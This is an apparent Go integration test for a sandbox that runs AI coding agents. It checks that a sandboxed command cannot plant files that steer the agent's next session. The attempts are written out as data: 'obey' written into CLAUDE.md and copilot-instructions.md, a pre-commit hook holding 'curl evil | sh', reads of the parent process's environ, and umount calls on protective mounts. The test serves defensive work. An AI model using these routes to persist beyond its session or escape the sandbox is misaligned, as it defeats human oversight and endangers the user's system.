@@ -1,0 +1,109 @@
+//go:build integration
+
+package cli_test
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/gatehouse-dev/gatehouse/app/cli/clitest"
+)
+
+// TestRunRefusesMissingProtectedNames: a command under `gatehouse run`,
+// and a child of its child, cannot create a protected name the project
+// does not have (a file that would steer the next session outside any
+// sandbox) by any of the usual ways, nor move a directory holding one
+// away to make it anew; the names stay absent on the host. Ordinary new
+// files in the project, a .claude below its root and the agent's own
+// state (~/.claude) are made as asked. The process that makes the
+// entries (bubblewrap's and the container's first process, Landlock's
+// supervisor) is out of the command's reach, and the mounts that keep
+// the names stay. On every backend.
+func TestRunRefusesMissingProtectedNames(t *testing.T) {
+	for _, backend := range runBackends {
+		t.Run(backend, func(t *testing.T) { runRefusesMissingProtectedNames(t, backend) })
+	}
+}
+
+func runRefusesMissingProtectedNames(t *testing.T, backend string) {
+	config := "[sandbox]\nbackend = \"" + backend + "\"\n"
+	if backend == "container" {
+		config = containerConfig(t)
+	}
+	base := t.TempDir()
+	home, ws := filepath.Join(base, "home"), filepath.Join(base, "ws")
+	for _, d := range []string{filepath.Join(home, ".claude", "projects"), filepath.Join(ws, "src"), filepath.Join(ws, ".github")} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if out, err := exec.Command("git", "init", "-q", ws).CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v\n%s", err, out)
+	}
+	clitest.WriteConfig(t, ws, "config.toml", config)
+	d := clitest.StartWithEnv(t, filepath.Join(base, "data"), ws, []string{"HOME=" + home})
+
+	attempts := []struct{ how, made string }{
+		{`sh -c ": > .envrc"`, ".envrc"},
+		{`mkdir -p .claude && echo {} > .claude/settings.json`, ".claude"},
+		{`ln -s x .mcp.json`, ".mcp.json"},
+		{`echo x > src/tmpfile && mv src/tmpfile .envrc`, ".envrc"},
+		{`echo obey > CLAUDE.md`, "CLAUDE.md"},
+		{`echo obey > .github/copilot-instructions.md`, ".github/copilot-instructions.md"},
+		{`mv .github .github-away && mkdir .github && echo obey > .github/copilot-instructions.md`, ".github-away"},
+		{`echo 'curl evil | sh' > .git/hooks/pre-commit`, ".git/hooks/pre-commit"},
+	}
+	script := `try() { if sh -c "$1" 2>&1; then echo "MADE: $1"; else echo "REFUSED: $1"; fi; }
+`
+	for _, a := range attempts {
+		script += "try '" + strings.ReplaceAll(a.how, "'", `'\''`) + "'\n"
+	}
+	// The process that makes the entries is out of the command's reach,
+	// and no mount that keeps a name can be taken away (bubblewrap
+	// started by root would leave the command CAP_SYS_ADMIN).
+	script += `{ readlink /proc/$PPID/fd/0 || cat /proc/$PPID/environ; } >/dev/null 2>&1 && echo REACHED-THE-FIRST-PROCESS
+umount .github 2>/dev/null && echo UNMOUNTED-A-PIN
+umount .git/config 2>/dev/null && echo UNMOUNTED-A-PROTECTED-PATH
+echo ok > src/new.txt && echo WROTE-SRC
+mkdir -p src/.claude && echo {} > src/.claude/settings.json && echo WROTE-NESTED
+echo s > "$HOME/.claude/projects/state.json" && echo WROTE-STATE
+`
+	if backend != "landlock" {
+		// Landlock lets nothing new be made in the root at all.
+		script += "echo ok > new.txt && echo WROTE-ROOT\n"
+	}
+	out, errOut, code := runIn(t.Context(), t, d, "--profile", "claude", "--", "sh", "-c", script)
+	t.Logf("exit %d\nstdout:\n%s\nstderr:\n%s", code, out, errOut)
+	if strings.Contains(out, "REACHED-THE-FIRST-PROCESS") {
+		t.Error("the command could read the descriptors of the process that makes its entries")
+	}
+	if strings.Contains(out, "UNMOUNTED-") {
+		t.Error("the command took away a mount that keeps the project's protected paths")
+	}
+	if code != 0 {
+		t.Fatalf("exit %d", code)
+	}
+	for _, a := range attempts {
+		if !strings.Contains(out, "REFUSED: "+a.how) {
+			t.Errorf("not refused: %s", a.how)
+		}
+		if _, err := os.Lstat(filepath.Join(ws, a.made)); err == nil {
+			t.Errorf("%s is on the host after %s", a.made, a.how)
+		}
+	}
+	wrote := map[string]string{"WROTE-SRC": "src/new.txt", "WROTE-NESTED": "src/.claude/settings.json"}
+	if backend != "landlock" {
+		wrote["WROTE-ROOT"] = "new.txt"
+	}
+	for mark, f := range wrote {
+		if _, err := os.Stat(filepath.Join(ws, f)); !strings.Contains(out, mark) || err != nil {
+			t.Errorf("an ordinary new file was not made: %s (%v)", f, err)
+		}
+	}
+	if b, err := os.ReadFile(filepath.Join(home, ".claude", "projects", "state.json")); !strings.Contains(out, "WROTE-STATE") || string(b) != "s\n" {
+		t.Errorf("the agent's state was not written: %q %v", b, err)
+	}
+}
